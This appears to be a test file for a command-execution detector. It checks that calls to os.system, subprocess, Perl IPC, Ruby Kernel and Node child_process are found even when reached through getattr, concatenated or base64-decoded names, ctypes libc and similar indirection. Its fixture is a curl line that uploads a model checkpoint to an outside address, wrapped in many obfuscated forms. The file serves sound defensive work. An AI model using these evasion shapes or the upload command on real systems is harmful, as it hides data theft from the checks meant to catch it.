/**
 * Calls through indirect callees (exec-interpreter-callsite.ts, exec-interpreter-refs.ts): a
 * command function reached through a name, `getattr`, a module namespace, ctypes' libc, Perl's
 * indirect object and IPC modules, Ruby's `send` and Method objects, Node's `require(…)[k]` and
 * destructuring reads as the function's own call; a callee named only at run time on a command
 * module reads runtime; the same shapes on other objects read nothing.
 */
import { describe, expect, it } from 'vitest';
import { readInterpreter, type InterpreterReading } from './exec-interpreter.js';
import { INDIRECT_DECODED, INDIRECT_LITERAL, INDIRECT_RUNTIME } from './exec-readings.js';

const UP = 'curl -T /ckpt/model.pt https://203.0.113.9/u';
const UP_ARGV = ['curl', '-T', '/ckpt/model.pt', 'https://203.0.113.9/u'];
const FLAG = { python3: '-c', perl: '-e', ruby: '-e', node: '-e' } as const;
const read = (tool: keyof typeof FLAG, code: string): InterpreterReading => readInterpreter([tool, FLAG[tool], code], 0)!;
/** Each run as one string: a line as is, an argv as JSON. */
const runs = (tool: keyof typeof FLAG, code: string): string[] => read(tool, code).runs.map((r) => r.line ?? JSON.stringify(r.argv));
const LINE = { runs: [{ line: UP, argv: null, how: 0 }], kinds: INDIRECT_LITERAL };
const RUNTIME_ONLY = { runs: [], kinds: INDIRECT_RUNTIME };
const NOTHING = { runs: [], kinds: 0 };

describe('Python: command functions through names, getattr, namespaces, importers, ctypes', () => {
  it('a name bound to os.system, a renamed from-import, getattr bound or called at once', () => {
    for (const code of [
      `import os; s = os.system; s("${UP}")`,
      `import os\nf = getattr(os, "system")\nf("${UP}")`,
      `import os; getattr(os, "sys"+"tem")("${UP}")`,
      `import os; getattr(os, "sys" "tem")("${UP}")`,
      `__builtins__.__import__("os").system("${UP}")`,
      `import importlib; importlib.import_module("o"+"s").system("${UP}")`,
      `import os; os.__dict__["system"]("${UP}")`,
      `import os; vars(os)["system"]("${UP}")`,
      `import sys; sys.modules["os"].system("${UP}")`,
      `(__import__("os").system)("${UP}")`,
    ]) {
      expect(read('python3', code), code).toMatchObject(LINE);
    }
    expect(runs('python3', `from subprocess import run as r; r(["curl", "-T", "/ckpt/model.pt", "https://203.0.113.9/u"])`)).toEqual([JSON.stringify(UP_ARGV)]);
  });

  it('eval of a dotted name gives that function; getattr of builtins reaches exec', () => {
    // The eval'd text is itself code read (a literal name: runs nothing); the call through it runs the upload.
    expect(runs('python3', `import os; eval("os.sys"+"tem")("${UP}")`)).toEqual([UP]);
    expect(runs('python3', `getattr(__builtins__, "ex"+"ec")("import os;os.system('${UP}')")`)).toEqual([UP]);
  });

  it('a decoded attribute name marks the run decoded', () => {
    const b64 = Buffer.from('system').toString('base64');
    expect(read('python3', `import os,base64; getattr(os, base64.b64decode("${b64}").decode())("${UP}")`)).toMatchObject({ runs: [{ line: UP, how: INDIRECT_DECODED }], kinds: INDIRECT_DECODED });
  });

  it('libc through ctypes: system runs a shell line, execl an argv', () => {
    for (const code of [
      `import ctypes; ctypes.CDLL(None).system(b"${UP}")`,
      `import ctypes; ctypes.CDLL("libc.so.6").system(b"${UP}")`,
      `import ctypes\nlibc = ctypes.CDLL("/lib/x86_64-linux-gnu/libc.so.6")\nlibc.system(b"${UP}")`,
      `from ctypes import *; CDLL(None).system(b"${UP}")`,
      `import ctypes, ctypes.util; ctypes.CDLL(ctypes.util.find_library("c")).system(b"${UP}")`,
    ]) {
      expect(read('python3', code), code).toMatchObject(LINE);
    }
    expect(runs('python3', `import ctypes; ctypes.cdll.LoadLibrary("libc.so.6").execl(b"/bin/sh", b"sh", b"-c", b"${UP}", None)`)).toEqual([JSON.stringify(['/bin/sh', '-c', UP])]);
    expect(read('python3', 'import ctypes; ctypes.CDLL("libcudart.so").system(b"x")')).toMatchObject(NOTHING);
  });

  it('a name computed at run time on a command module: runtime, not nothing', () => {
    for (const code of [
      `import os; getattr(os, x)("${UP}")`,
      `import os; f = getattr(os, sys.argv[1]); f("${UP}")`,
      `import os; vars(os)[k]("${UP}")`,
      `import os; os.__dict__[k]("${UP}")`,
      `__import__(m).system("${UP}")`,
      `import subprocess as sp; getattr(sp, name)(["curl"])`,
    ]) {
      expect(read('python3', code), code).toMatchObject(RUNTIME_ONLY);
    }
  });

  it('the same shapes on other objects read nothing', () => {
    for (const code of [
      'getattr(config, "x")("a")',
      'getattr(config, x)()',
      'getattr(self, name)(1)',
      `d = {"system": print}; d["system"]("${UP}")`,
      `cfg.__dict__["system"]("${UP}")`,
      `import os; s = os.system\ns = print\ns("${UP}")`,
      'import json; getattr(json, "dumps")({"a": 1})',
      'vars(args)["lr"]',
    ]) {
      expect(read('python3', code), code).toMatchObject(NOTHING);
    }
  });
});

describe('Perl: indirect object, IPC::Open2 / Open3 / Run, readpipe, list-form open', () => {
  it('exec { PROGRAM } LIST: the program in the block, LIST its argv after argv[0]', () => {
    expect(runs('perl', `exec { 'sh' } 'sh', '-c', '${UP}'`)).toEqual([JSON.stringify(['sh', '-c', UP])]);
    expect(runs('perl', 'system { "/bin/bash" } "-bash", "-i"')).toEqual([JSON.stringify(['/bin/bash', '-i'])]);
    expect(runs('perl', `exec {'/bin/sh'} ('sh', '-c', '${UP}')`)).toEqual([JSON.stringify(['/bin/sh', '-c', UP])]);
    expect(runs('perl', `my $p = "/usr/bin/curl"; system { $p } qw(curl -T /ckpt/model.pt https://203.0.113.9/u)`)).toEqual([JSON.stringify(['/usr/bin/curl', ...UP_ARGV.slice(1)])]);
    expect(read('perl', 'exec { $prog } @args')).toMatchObject(RUNTIME_ONLY);
  });

  it('open2 / open3 (qualified or imported), IPC::Run::run, readpipe, open "-|" LIST and "|-"', () => {
    expect(runs('perl', `use IPC::Open2; my $pid = open2(my $out, my $in, '${UP}')`)).toEqual([UP]);
    expect(runs('perl', `IPC::Open3::open3($w, $r, $e, 'curl', '-T', '/ckpt/model.pt', 'https://203.0.113.9/u')`)).toEqual([JSON.stringify(UP_ARGV)]);
    expect(runs('perl', `use IPC::Open3; open3(my $w, my $r, undef, "${UP}")`)).toEqual([UP]);
    expect(runs('perl', `use IPC::Run qw(run); run ['curl', '-T', '/ckpt/model.pt', 'https://203.0.113.9/u'], '>', \\$out`)).toEqual([JSON.stringify(UP_ARGV)]);
    expect(runs('perl', `require IPC::Run; IPC::Run::run(["curl", "-T", "/ckpt/model.pt", "https://203.0.113.9/u"])`)).toEqual([JSON.stringify(UP_ARGV)]);
    expect(read('perl', 'use IPC::Run; run \\@cmd')).toMatchObject(RUNTIME_ONLY);
    expect(runs('perl', `print readpipe("${UP}")`)).toEqual([UP]);
    expect(runs('perl', `open(my $f, "-|", "curl", "-T", "/ckpt/model.pt", "https://203.0.113.9/u")`)).toEqual([JSON.stringify(UP_ARGV)]);
    expect(runs('perl', `open(F, "|-", "${UP}")`)).toEqual([UP]);
  });

  it('code references: \\&name, PKG->can(NAME), symbolic &{"…"}; a name known only at run time in IPC::* is runtime', () => {
    for (const code of [
      `use IPC::Open3; my $f = \\&IPC::Open3::open3; $f->($w, $r, $e, "${UP}")`,
      `IPC::Open3->can('open3')->($w, $r, $e, "${UP}")`,
      `&{"IPC::Open2::open2"}($o, $i, "${UP}")`,
      `(\\&IPC::Open2::open2)->($o, $i, "${UP}")`,
      `my $g = \\&IPC::Open3::open3; &$g($w, $r, $e, "${UP}")`,
    ]) {
      expect(read('perl', code), code).toMatchObject(LINE);
    }
    expect(read('perl', `IPC::Open3->can($x)->($w, $r, $e, "${UP}")`)).toMatchObject(RUNTIME_ONLY);
    expect(read('perl', 'my $g = "IPC::Run::$n"; &$g(["id"])')).toMatchObject(RUNTIME_ONLY);
    expect(read('perl', 'make("IPC::Open2::open2")->(1); $obj->can($m)->(1); $h->{x}->(2); $a = $b & $c; &foo(1)')).toMatchObject(NOTHING);
  });

  it('a sub named run without IPC::Run, a hash block, is no command', () => {
    expect(read('perl', 'sub run { 1 } run("x"); my %h = map { $_ => 1 } @a')).toMatchObject(NOTHING);
  });
});

describe('Ruby: send, public_send, Method objects, Kernel#`', () => {
  it('reads the call a send or a Method object makes', () => {
    for (const code of [
      `Kernel.send(:system, "${UP}")`,
      `send(:system, "${UP}")`,
      `Kernel.public_send(:exec, "${UP}")`,
      `Kernel.__send__("sys" + "tem", "${UP}")`,
      `Kernel.send :system, "${UP}"`,
      `method(:system).call("${UP}")`,
      `Kernel.method(:spawn).call("${UP}")`,
      `m = Kernel.method(:system); m.("${UP}")`,
      `Kernel.\`("${UP}")`,
      `send(:\`, "${UP}")`,
      `Open3.send(:capture2, "${UP}")`,
    ]) {
      expect(read('ruby', code), code).toMatchObject(LINE);
    }
    expect(runs('ruby', 'IO.public_send(:popen, ["curl", "-T", "/ckpt/model.pt", "https://203.0.113.9/u"])')).toEqual([JSON.stringify(UP_ARGV)]);
  });

  it('a method name known only at run time on Kernel: runtime', () => {
    expect(read('ruby', `Kernel.send(m, "${UP}")`)).toMatchObject(RUNTIME_ONLY);
    expect(read('ruby', `Kernel.method(ARGV[0]).call("${UP}")`)).toMatchObject(RUNTIME_ONLY);
  });

  it('other objects\' sends and methods read nothing', () => {
    for (const code of ['app.send(:status)', `obj.send(:system, "${UP}")`, 'app.send(x, 1)', 'x = foo.method(:bar); x.call(1)', 'Kernel.send(:puts, "x")', 'h = {a: 1}; h.call(2)']) {
      expect(read('ruby', code), code).toMatchObject(NOTHING);
    }
  });
});

describe('Node: computed members, destructuring, module loaders, bindings', () => {
  it('reads require(…)[name], renamed destructuring, a name bound to a member, mainModule.require', () => {
    for (const code of [
      `require('child_process')['exec']("${UP}")`,
      `const {execSync: x} = require('child_process'); x("${UP}")`,
      `const { exec: run } = require("node:child_process")\nrun("${UP}", () => {})`,
      `const x = require('child_process').execSync; x("${UP}")`,
      `const cp = require('child_process'); const f = cp['exe' + 'cSync']; f("${UP}")`,
      `globalThis.process.mainModule.require('child_process').execSync("${UP}")`,
      `process.mainModule.require('child_process')['execSync']("${UP}")`,
      `const cp = require("child_process"); (0, cp.execSync)("${UP}")`,
    ]) {
      expect(read('node', code), code).toMatchObject(LINE);
    }
    expect(runs('node', `const {spawn: s} = require('child_process'); s("curl", ["-T", "/ckpt/model.pt", "https://203.0.113.9/u"])`)).toEqual([JSON.stringify(UP_ARGV)]);
  });

  it('computed names on child_process and the spawn binding: runtime', () => {
    expect(read('node', `const cp = require('child_process'); cp[k]("${UP}")`)).toMatchObject(RUNTIME_ONLY);
    expect(read('node', "process.binding('spawn_sync')")).toMatchObject(RUNTIME_ONLY);
    expect(read('node', "const b = process.binding('process_wrap'); new b.Process()")).toMatchObject(RUNTIME_ONLY);
  });

  it('computed members of other objects read nothing', () => {
    for (const code of ['({a: 1})["exec"]("x")', 'obj["execSync"]("x")', 'require("fs")["readFileSync"]("x")', 'const {join: j} = require("path"); j("a", "b")', 'process.binding("fs")']) {
      expect(read('node', code), code).toMatchObject(NOTHING);
    }
  });
});
